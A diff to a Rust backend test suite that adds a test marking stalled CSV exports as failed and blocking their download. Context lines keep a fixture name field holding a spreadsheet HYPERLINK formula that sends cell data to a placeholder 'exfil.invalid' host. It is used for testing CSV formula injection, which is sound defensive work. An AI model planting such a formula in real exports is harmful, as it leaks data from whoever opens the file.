@@ -46,6 +46,7 @@ backend_tests!(
     json_export_contains_case_views,
     export_requests_checked,
     csv_export_reimports_unchanged,
+    stalled_export_fails_as_interrupted,
 );
 
 const FULL_NAME: &str = "=HYPERLINK(\"http://exfil.invalid/?d=\"&A2,\"open file\")";
@@ -671,4 +672,46 @@ async fn csv_export_reimports_unchanged(backend: Backend) {
     let (_, case) = send(fixture.rahima.get(app.api(&format!("/cases/{id}")))).await;
     assert_eq!(case["version"], fixture.payload_case["version"], "the import wrote a new version");
     assert_eq!(case["data"]["name_first"], FULL_NAME);
+}
+
+/// Checks that an export whose generation stopped reporting progress (its server process
+/// stopped) is marked failed by the cleanup after 15 minutes, with the reason in the owner's
+/// language, and that a download is then 409 `export_not_ready`.
+async fn stalled_export_fails_as_interrupted(backend: Backend) {
+    let fixture = fixture(backend).await;
+    let app = &fixture.app;
+    let user = app.state.store.user_by_username("cw.rahima").await.unwrap().unwrap();
+    let started = time::OffsetDateTime::now_utc() - time::Duration::minutes(20);
+    let id = sathi_store::ExportId(uuid::Uuid::now_v7());
+    let stalled = sathi_store::NewExport {
+        id,
+        owner_id: user.id,
+        format: "csv".to_owned(),
+        file_name: "sathi-cases.csv".to_owned(),
+        content_type: "text/csv; charset=utf-8".to_owned(),
+        password_protected: false,
+        now: started,
+        expires_at: started + time::Duration::hours(24),
+    };
+    app.state.store.create_export(&stalled).await.expect("storing the export failed");
+    let (status, view) = send(fixture.rahima.get(app.api(&format!("/exports/{id}")))).await;
+    assert_eq!(status, StatusCode::OK);
+    assert_eq!(view["state"], "running");
+
+    let now = time::OffsetDateTime::now_utc();
+    let (deleted, interrupted) =
+        sathi_server::exports::cleanup_once(&app.state, now).await.expect("the cleanup failed");
+    assert_eq!((deleted, interrupted), (0, 1));
+    let (_, view) = send(fixture.rahima.get(app.api(&format!("/exports/{id}")))).await;
+    assert_eq!(view["state"], "failed");
+    assert_eq!(view["error"], "The server stopped while making the file. Ask for the export again.");
+    let (status, _, body) = download(app, &fixture.rahima, &id.to_string()).await;
+    assert_eq!(status, StatusCode::CONFLICT, "{}", String::from_utf8_lossy(&body));
+
+    // A generation that reported progress within the last 15 minutes is left alone.
+    let fresh = sathi_store::NewExport { id: sathi_store::ExportId(uuid::Uuid::now_v7()), now, ..stalled };
+    app.state.store.create_export(&fresh).await.expect("storing the export failed");
+    let (_, interrupted) =
+        sathi_server::exports::cleanup_once(&app.state, now).await.expect("the cleanup failed");
+    assert_eq!(interrupted, 0);
 }
